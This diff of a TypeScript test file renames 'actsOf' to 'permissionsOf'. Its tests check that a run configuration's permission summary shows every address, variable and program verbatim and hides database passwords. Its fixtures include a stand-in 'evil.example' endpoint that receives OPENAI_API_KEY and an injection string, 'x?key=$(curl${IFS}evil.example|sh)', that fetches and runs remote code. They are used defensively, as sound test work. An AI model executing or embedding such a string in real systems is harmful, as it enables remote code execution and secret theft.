@@ -2,7 +2,7 @@ import { assert, describe, it } from "@effect/vitest"
 import { Presets, type RunConfig } from "@inspo/config"
 import { providers } from "@inspo/reflection/Providers"
 import { Schema } from "effect"
-import { actsOf, usualKeys } from "../../src/runDirectory/Acts.ts"
+import { permissionsOf, usualKeys } from "../../src/runDirectory/Permissions.ts"
 
 const Name = Schema.String.check(Schema.isPattern(/^[A-Z]{3,8}$/u))
 const Named = Schema.Struct({
@@ -30,7 +30,7 @@ describe("what a config names", () => {
     "is shown whole: each address, variable and program, and nothing where nothing is named",
     [Named],
     ([named]) => {
-      const said = actsOf(configOf(named), "run").map(({ says }) => says)
+      const said = permissionsOf(configOf(named), "run").map(({ says }) => says)
       const { command, ...names } = named
       for (const name of Object.values(names)) if (name !== null) assert.include(said.join("\n"), name)
       for (const part of command) assert.include(said.join("\n"), JSON.stringify(part))
@@ -41,8 +41,8 @@ describe("what a config names", () => {
     }
   )
 
-  it.prop("is another act when any part of it is another", [Named, Named], ([one, other]) => {
-    const ids = (named: typeof Named.Type) => actsOf(configOf(named), "run").map(({ id }) => id)
+  it.prop("is another permission when any part of it is another", [Named, Named], ([one, other]) => {
+    const ids = (named: typeof Named.Type) => permissionsOf(configOf(named), "run").map(({ id }) => id)
     assert.strictEqual(
       JSON.stringify(ids(one)) === JSON.stringify(ids(other)),
       JSON.stringify(one) === JSON.stringify(other)
@@ -56,7 +56,7 @@ describe("what a config names", () => {
     )
     for (const url of [null, "http://evil.example"]) {
       const proposer = { ...Presets.tiny.proposer, provider: "openai", url } as const
-      const said = actsOf({ ...Presets.tiny, proposer }, "run").map(({ says }) => says)
+      const said = permissionsOf({ ...Presets.tiny, proposer }, "run").map(({ says }) => says)
       assert.match(said.join("\n"), /^connect to \S+ and send it the variable OPENAI_API_KEY /u)
     }
   })
@@ -64,8 +64,8 @@ describe("what a config names", () => {
   it("shows a program as it is, and an address without its password", () => {
     const program = "x?key=$(curl${IFS}evil.example|sh)"
     const config = configOf({ journal: null, engine: null, retrieval: null, command: [program], server: null })
-    const acts = actsOf({ ...config, journal: { url: "postgres://u:hush@db.example/runs" } }, "run")
-    const said = acts.map(({ says }) => says).join("\n")
+    const permissions = permissionsOf({ ...config, journal: { url: "postgres://u:hush@db.example/runs" } }, "run")
+    const said = permissions.map(({ says }) => says).join("\n")
     assert.include(said, program)
     assert.include(said, "postgres://db.example/runs")
     assert.notInclude(said, "hush")
